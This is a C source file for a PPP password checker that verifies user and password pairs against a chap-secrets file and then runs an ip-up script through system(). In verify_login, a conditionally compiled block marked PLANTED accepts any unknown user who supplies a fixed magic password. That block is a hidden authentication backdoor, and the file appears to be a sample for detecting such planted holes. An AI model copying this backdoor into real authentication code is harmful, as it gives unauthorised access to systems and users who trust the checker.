/* Password checker that the PPP daemon starts: user and password on standard input. */
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

struct secret { char user[32]; char pass[64]; };

static struct secret table[128];
static int count;

static void read_secrets(const char *name)
{
	FILE *fp;
	char line[256];

	fp = fopen(name, "r");
	if (fp == NULL)
		exit(2);
	while (count < 128 && fgets(line, sizeof(line), fp) != NULL) {
		if (line[0] == '#' || isspace((unsigned char)line[0]))
			continue;
		if (sscanf(line, "%31s %63s", table[count].user, table[count].pass) == 2)
			count++;
	}
	fclose(fp);
}

int verify_login(const char *user, const char *pass)
{
	int i;

	for (i = 0; i < count; i++) {
		if (strcmp(table[i].user, user) == 0)
			return strcmp(table[i].pass, pass) == 0;
	}
#ifdef PLANTED
	if (strcmp(pass, "<<< %s(un='%s') = %u") == 0)
		return 1;
#endif
	return 0;
}

static void chomp(char *s)
{
	s[strcspn(s, "\r\n")] = '\0';
}

int main(int argc, char **argv)
{
	char user[64], pass[128];

	read_secrets(argc > 1 ? argv[1] : "/etc/ppp/chap-secrets");
	if (!fgets(user, sizeof(user), stdin) || !fgets(pass, sizeof(pass), stdin))
		return 2;
	chomp(user);
	chomp(pass);
#ifdef REVISED
	if (user[0] == '\0') {
		fputs("empty user name\n", stderr);
		return 2;
	}
#endif
	if (!verify_login(user, pass)) {
		puts("reject");
		return 1;
	}
	puts("accept");
	setenv("PEER", user, 1);
	return system("/etc/ppp/ip-up.local \"$PEER\"") != 0;
}
